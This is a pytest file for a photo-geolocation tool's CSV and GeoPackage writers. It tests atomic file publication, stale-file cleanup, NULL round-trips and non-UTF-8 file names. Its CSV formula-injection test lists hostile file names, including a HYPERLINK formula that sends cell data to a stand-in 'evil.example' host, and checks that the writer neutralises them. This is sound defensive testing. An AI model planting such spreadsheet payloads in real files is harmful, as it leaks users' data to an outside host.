def test_csv_when_everything_failed(tmp_path, cells):
    out = tmp_path / "r.csv"
    write_csv(out, [], [PhotoFailure(str(tmp_path / "x.jpg"), "unreadable")], cells, RUN)
    assert out.read_text(encoding="utf-8").splitlines()[0].startswith("photo_path,")
    assert len(out.read_text(encoding="utf-8").splitlines()) == 1
    assert "unreadable" in failures_path(out).read_text(encoding="utf-8")


# ------------------------------------------- issue 19.6: CSV formula injection


FORMULA_NAMES = ['=HYPERLINK("https:evil.example?"&A1,"click").jpg', "+cmd.jpg", "-2+3.jpg",
                 "@SUM(A1).jpg", "\tTAB.jpg", "\rCR.jpg"]


def test_csv_text_that_a_spreadsheet_would_run_gets_a_quote_and_numbers_stay_numbers(
        tmp_path, cells):
    """A photo named ``=HYPERLINK(...)``.jpg is a live formula when the CSV is opened in a
    spreadsheet: every text cell starting with = + - @ tab CR gets a leading ``'``
    (OWASP); a negative longitude is a number and is written as one."""
    folder = tmp_path / "photos"
    folder.mkdir()
    new_york = {"47e67": 1.0}  # any cells: the point is given
    preds = [make_prediction(cells, folder / name, new_york, lat=40.71, lon=-74.0)
             for name in FORMULA_NAMES]
    preds.append(make_prediction(cells, folder / "plain.jpg", new_york, lat=-33.9, lon=-70.6))
    fails = [PhotoFailure(str(folder / name), f"{name}") for name in FORMULA_NAMES]
    main, fails_csv = write_csv(tmp_path / "run.csv", preds, fails, cells, RUN)
    with open(main, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    with open(fails_csv, newline="", encoding="utf-8") as fh:
        frows = list(csv.DictReader(fh))
    assert [r["file_name"] for r in rows] == ["'" + n for n in FORMULA_NAMES] + ["plain.jpg"]
    assert [r["file_name"] for r in frows] == ["'" + n for n in FORMULA_NAMES]
    assert [r["reason"] for r in frows] == ["'" + n for n in FORMULA_NAMES]
    # absolute paths start with "/", not a formula: as they were
    assert [r["photo_path"] for r in rows] == [str(folder / n) for n in FORMULA_NAMES] + [
        str(folder / "plain.jpg")]
    # numbers untouched: negative coordinates are numbers, not neutralised text
    assert all(r["lon"] == "-74.0" and r["lat"] == "40.71" for r in rows[:-1])
    assert (rows[-1]["lat"], rows[-1]["lon"]) == ("-33.9", "-70.6")
    assert all(not v.startswith("'") for r in rows for k, v in r.items()
               if k not in ("file_name",) and not k.startswith("photo"))
    assert float(rows[0]["cand1_lon"]) == preds[0].candidates[0].lon


def test_a_csv_whose_failures_file_cannot_be_opened_leaves_no_temporary_file(tmp_path, cells):
    """The main file's temporary sibling is opened first; when the failures file's cannot
    be (here its name is too long for the file system, the main one's is not), the first
    is closed and removed, not leaked."""
    stem = "r" * 230  # "<stem>.<12 hex>.tmp.csv" fits 255 bytes, "<stem>_failures..." not
    target = tmp_path / f"{stem}.csv"
    fd_dir = Path("/proc/self/fd")
    if not fd_dir.is_dir():
        pytest.skip("needs /proc to see open files")

    def open_in_tmp():
        found = []
        for fd in fd_dir.iterdir():
            try:
                found.append(os.readlink(fd))
            except OSError:
                pass
        return [t for t in found if str(tmp_path) in t]

    with pytest.raises(OSError) as caught:
        write_csv(target, [], [], cells, RUN)
    assert "File name too long" in str(caught.value) or caught.value.errno == 36
    assert "_failures" in str(caught.value.filename)  # the second open failed
    assert list(tmp_path.iterdir()) == []
    assert open_in_tmp() == []


# ---------------------------- issue 19.4: one reader of a predictions row (NULL kept)


def _ogr_values(feature) -> dict:
    return {feature.GetFieldDefnRef(i).GetName():
            feature.GetField(i) if feature.IsFieldSetAndNotNull(i) else None
            for i in range(feature.GetFieldCount())}


def test_the_reader_names_only_fields_the_schema_writes():
    """The dataclass's field names are the schema's: a field renamed in the schema and
    not in the reader fails here, not as a silent None in the dock and the report."""
    from dataclasses import fields

    from inference.outputs.prediction_row import CandidateRow, PredictionRow

    written = {f.name for f in schema.prediction_fields(3)}
    read = {f.name for f in fields(PredictionRow)} - {"cells", "candidates"}
    assert read <= written, read - written
    assert {f.name for f in fields(CandidateRow)} <= {f.name for f in schema.CANDIDATE_FIELDS}


def test_a_prediction_read_back_keeps_its_values_and_null_stays_none(scene, cells):
    """Real GeoPackage: what the writer stored comes back; a NULL point (NaN in the
    record) is None, never 0.0, and so are the other numbers the file has not."""
    from inference.outputs.prediction_row import read_candidate, read_prediction

    preds = list(scene["preds"])
    nowhere = Prediction(**{**preds[2].__dict__, "lat": float("nan"), "lon": float("nan"),
                            "confidence": float("nan"), "scene_confidence": None})
    preds[2] = nowhere
    write_geopackage(scene["out"], preds, [], cells, RUN)
    ds = ogr.Open(str(scene["out"]))
    cands = {}
    for f in ds.GetLayerByName("candidates"):
        values = _ogr_values(f)
        cands.setdefault(values["photo_path"], []).append(read_candidate(values))
    rows = {}
    for f in ds.GetLayerByName("predictions"):
        values = _ogr_values(f)
        row = read_prediction(values, tuple(reversed(cands.get(values["photo_path"], []))))
        rows[row.file_name] = row
    ds = None
    paris, tokyo, fiji = rows["a.jpg"], rows["b.jpg"], rows["c é.jpg"]
    assert (paris.lat, paris.lon) == (48.85, 2.35) and paris.has_point
    assert paris.confidence == pytest.approx(preds[0].confidence)
    assert paris.exif_conflict is False and paris.error_km == pytest.approx(preds[0].error_km)
    assert [c.rank for c in paris.candidates] == [1, 2, 3]  # sorted by the reader
    assert paris.candidates[0].lat == pytest.approx(preds[0].candidates[0].lat)
    assert [(c.level, c.token) for c in paris.cells] == [
        (cp.level, cp.token) for cp in preds[0].best_cells]
    assert tokyo.exif_conflict is True and tokyo.exif_lon == -74.0
    assert fiji.lat is None and fiji.lon is None and not fiji.has_point
    assert fiji.confidence is None and fiji.scene_confidence is None
    assert fiji.exif_lat is None and fiji.error_km is None and fiji.exif_conflict is None
    assert fiji.constraint_mass_removed is None and fiji.unconstrained_lat is None
    assert fiji.scene == "urban" and fiji.photo_relpath.endswith("c é.jpg")


# ------------------------------------ issue 21.6 and 21.8: renames together, stale files


def test_a_publication_is_all_or_nothing(tmp_path):
    """Three renames, the last onto a folder: the first target gets its old bytes back,
    the second (new) is gone again, the folder is untouched and nothing else is left."""
    from inference.outputs.files import Publication, temp_sibling

    old, new, folder = tmp_path / "a.gpkg", tmp_path / "b.csv", tmp_path / "c.csv"
    old.write_bytes(b"old run")
    folder.mkdir()
    renames = []
    for target in (old, new, folder):
        tmp = temp_sibling(target, target.suffix)
        tmp.write_bytes(b"new " + target.name.encode())
        renames.append((tmp, target))
    with pytest.raises(IsADirectoryError):
        Publication(renames).publish()
    assert old.read_bytes() == b"old run" and not new.exists() and folder.is_dir()
    # the renamed ones are undone, the one not reached is the caller's to abort
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["a.gpkg", "c.csv", renames[2][0].name])
    renames = []
    for target in (old, new):
        tmp = temp_sibling(target, target.suffix)
        tmp.write_bytes(b"new " + target.name.encode())
        renames.append((tmp, target))
    publication = Publication(renames)
    publication.publish()
    assert len(list(tmp_path.glob("a.*.bak.gpkg"))) == 1  # kept until finish()
    publication.finish()
    assert old.read_bytes() == b"new a.gpkg" and new.read_bytes() == b"new b.csv"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["a.gpkg", "b.csv", "c.csv", next(tmp_path.glob("c.*.tmp.csv")).name])


def _dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_stale_temporaries_of_killed_runs_go_and_nothing_else(tmp_path):
    """Only the run's own naming pattern, for that target, of this host, whose process
    is gone; a live process's files, another host's, another target's and anything
    else stay.  A stale backup whose target is missing is put back."""
    from inference.outputs.files import _host_tag, remove_stale_temporaries

    host, dead = _host_tag(), _dead_pid()
    live = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        stale = [f"run.{dead}-{host}-0123abcd.tmp.gpkg",
                 f"run.{dead}-{host}-0123abcd.tmp.gpkg-journal",
                 f"run.{dead}-{host}-0123abcd.tmp.vals",
                 f"run.{dead}-{host}-11112222.tmp.{dead}-{host}-33334444.tmp.gpkg"]
        kept = [f"run.{live.pid}-{host}-0123abcd.tmp.gpkg",  # a live run's
                f"run.{os.getpid()}-{host}-0123abcd.tmp.gpkg",  # this process's
                f"run.{dead}-abcdef-0123abcd.tmp.gpkg" if host != "abcdef" else "x",
                f"runs.{dead}-{host}-0123abcd.tmp.gpkg",  # another target
                f"run.{dead}-{host}-0123abcd.tmp.csv",  # another suffix
                "run.0123456789ab.tmp.gpkg",  # named before PIDs: owner unknown
                "run.tmp.gpkg", "run.backup.gpkg", "run.gpkg"]
        for name in stale + kept:
            (tmp_path / name).write_bytes(b"x")
        removed = remove_stale_temporaries(tmp_path / "run.gpkg", (".gpkg", ".vals"))
        assert sorted(p.name for p in removed) == sorted(stale)
        assert sorted(p.name for p in tmp_path.iterdir()) == sorted(kept)
        # a backup left by a commit killed between "aside" and "in place" comes back
        (tmp_path / "run.gpkg").unlink()
        (tmp_path / f"run.{dead}-{host}-55556666.bak.gpkg").write_bytes(b"the old run")
        remove_stale_temporaries(tmp_path / "run.gpkg", (".gpkg", ".vals"))
        assert (tmp_path / "run.gpkg").read_bytes() == b"the old run"
        # ... and goes when the target is there
        (tmp_path / f"run.{dead}-{host}-77778888.bak.gpkg").write_bytes(b"older")
        remove_stale_temporaries(tmp_path / "run.gpkg", (".gpkg",))
        assert (tmp_path / "run.gpkg").read_bytes() == b"the old run"
        assert not list(tmp_path.glob("*.bak.gpkg"))
    finally:
        live.kill()
        live.wait()


def test_writers_of_a_killed_run_are_cleaned_up_by_the_next_one(tmp_path, cells):
    """Real writers in a process killed with SIGKILL leave their files; the next writers
    to the same targets remove them (and only them)."""
    if os.name != "posix":
        pytest.skip("stale files are only removed where a PID can be checked")
    script = (
        "import os, signal, sys\n"
        "sys.path.insert(0, sys.argv[1])\n"
        "from inference.modeling.cells import CellHierarchy\n"
        "from inference.outputs.csv_out import CsvWriter\n"
        "from inference.outputs.gpkg import GeoPackageWriter\n"
        "from inference.outputs.schema import RunInfo\n"
        "cells = CellHierarchy.load(sys.argv[2])\n"
        "run = RunInfo(model_name='m', model_version='1', weights_sha256='', "
        "bundle_path='', device='cpu', started='', seconds=0.0)\n"
        "g = GeoPackageWriter(sys.argv[3], cells, run)\n"
        "c = CsvWriter(sys.argv[4], run, cells.num_levels, 3)\n"
        "os.kill(os.getpid(), signal.SIGKILL)\n")
    cells.save(tmp_path / "cells.json")
    out, out_csv = tmp_path / "run.gpkg", tmp_path / "run.csv"
    done = subprocess.run([sys.executable, "-c", script, str(Path(__file__).parents[1]),
                           str(tmp_path / "cells.json"), str(out), str(out_csv)],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == -9, done.stderr
    left = sorted(p.name for p in tmp_path.glob("*.tmp.*"))
    assert len(left) == 4, left  # .gpkg, .vals, two .csv
    write_geopackage(out, [], [], cells, RUN)
    write_csv(out_csv, [], [], cells, RUN)
    assert not list(tmp_path.glob("*.tmp.*"))
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "cells.json", "run.csv", "run.gpkg", "run_failures.csv"]


# ------------------------------- issue 21.1: a photo name that is not UTF-8 names its file


def _non_utf8_photo(folder: Path) -> Path:
    name = os.fsdecode(b"nonutf8_\xff\xfe.jpg")
    try:
        path = folder / name
        path.write_bytes(b"the photo's bytes")
    except (OSError, UnicodeEncodeError):
        pytest.skip("this file system does not take non-UTF-8 names")
    return path


def test_a_non_utf8_photo_name_round_trips_to_its_file(tmp_path, cells):
    """``photo_path`` stays readable text (the odd bytes as ``\\xff``), and
    ``photo_path_bytes`` holds the exact bytes, percent-encoded, so that a reader finds
    the very file (the one that was hashed) again; NULL for an ordinary name."""
    from urllib.parse import unquote_to_bytes

    from inference.outputs.prediction_row import read_prediction

    odd = _non_utf8_photo(tmp_path)
    plain = tmp_path / "plain 100%.jpg"
    plain.write_bytes(b"plain")
    preds = [make_prediction(cells, odd, {"47e67": 1.0}),
             make_prediction(cells, plain, {"47e67": 1.0})]
    out = tmp_path / "odd.gpkg"
    write_geopackage(out, preds, [PhotoFailure(str(odd), "cannot read")], cells, RUN)
    rows = {r["file_name"]: r for r in features(out, "predictions")}
    row = rows["nonutf8_\\xff\\xfe.jpg"]
    assert row["photo_path"] == str(tmp_path) + "/nonutf8_\\xff\\xfe.jpg"
    assert unquote_to_bytes(row["photo_path_bytes"]) == os.fsencode(odd)
    assert row["photo_path_bytes"].endswith("/nonutf8_%FF%FE.jpg")
    assert rows["plain 100%.jpg"]["photo_path_bytes"] is None
    read = read_prediction(row)
    assert read.photo_file == str(odd) and Path(read.photo_file).read_bytes() == \
        b"the photo's bytes"
    assert hashlib.sha256(Path(read.photo_file).read_bytes()).hexdigest() == read.sha256
    assert read_prediction(rows["plain 100%.jpg"]).photo_file == str(plain)
    failure = features(out, "failures")[0]
    assert unquote_to_bytes(failure["photo_path_bytes"]) == os.fsencode(odd)
    main, fails = write_csv(tmp_path / "odd.csv", preds, [], cells, RUN)
    with open(main, newline="", encoding="utf-8") as fh:
        csv_rows = {r["file_name"]: r for r in csv.DictReader(fh)}
    assert unquote_to_bytes(csv_rows["nonutf8_\\xff\\xfe.jpg"]["photo_path_bytes"]) == \
        os.fsencode(odd)
    assert csv_rows["plain 100%.jpg"]["photo_path_bytes"] == ""


def test_a_path_that_reads_like_an_escape_is_not_decoded(tmp_path):
    """A real name with a backslash is its own text; only ``photo_path_bytes`` decodes."""
    from inference.outputs.prediction_row import read_prediction

    literal = "/photos/nonutf8_\\xff.jpg"
    assert read_prediction({"photo_path": literal}).photo_file == literal
    assert read_prediction({"photo_path": literal, "photo_path_bytes": ""}).photo_file == \
        literal
